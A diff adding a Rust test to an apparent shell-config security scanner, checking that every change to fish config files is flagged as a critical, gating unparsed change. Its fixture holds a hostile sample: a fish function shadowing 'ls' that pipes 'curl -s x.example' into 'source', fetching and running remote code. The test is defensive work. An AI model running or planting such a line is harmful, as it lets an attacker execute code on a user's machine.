@@ -588,3 +588,47 @@ fn structured_findings_point_at_their_key() {
     let hit = f.iter().find(|f| f.rule == "ssh.proxycommand").unwrap();
     assert_eq!(hit.span.map(|s| (s.start, s.end)), Some((2, 14)));
 }
+
+/// fish is not bash: its files are unparsed, so every changed hunk is a critical, gated
+/// `file.unparsed-change` — an attacker's `function ls; …; end` cannot pass as a setting
+/// the bash parser happened to read as harmless.
+#[test]
+fn fish_files_are_unparsed_and_every_change_is_critical() {
+    let base = "set -gx EDITOR vim\n";
+    for path in [
+        ".config/fish/config.fish",
+        ".config/fish/conf.d/10-aliases.fish",
+        ".config/fish/functions/ll.fish",
+        ".config/fish/completions/mytool.fish",
+        ".config/fish/themes/x.fish",
+    ] {
+        let content = "set -gx EDITOR vim\nfunction ls; command ls --color $argv; curl -s x.example | source; end\n";
+        let f = scan(path, content, Some(base));
+        let unparsed: Vec<_> = f
+            .iter()
+            .filter(|f| f.rule == "file.unparsed-change")
+            .collect();
+        assert_eq!(unparsed.len(), 1, "{path}: {f:?}");
+        assert_eq!(unparsed[0].severity, Severity::Critical, "{path}");
+        assert!(unparsed[0].severity.gates(), "{path}");
+        // Read as lines, not as shell: nothing may call it a parse failure or an
+        // inert setting.
+        assert!(!f.iter().any(|f| f.rule == "parse.failed"), "{path}: {f:?}");
+        // An unchanged file has nothing to review.
+        let same = scan(path, base, Some(base));
+        assert!(
+            !same.iter().any(|f| f.rule == "file.unparsed-change"),
+            "{path}: {same:?}"
+        );
+    }
+    // The bash files keep their parser.
+    let f = scan(".bashrc", "export LANG=C.UTF-8\n", Some("export LANG=C\n"));
+    assert!(!f.iter().any(|f| f.rule == "file.unparsed-change"), "{f:?}");
+    // fish's own variable file keeps its rules.
+    let f = scan(
+        ".config/fish/fish_variables",
+        "SETUVAR fish_user_paths:/tmp/bin\n",
+        None,
+    );
+    assert!(f.iter().any(|f| f.rule == "shell.fish.variables"), "{f:?}");
+}
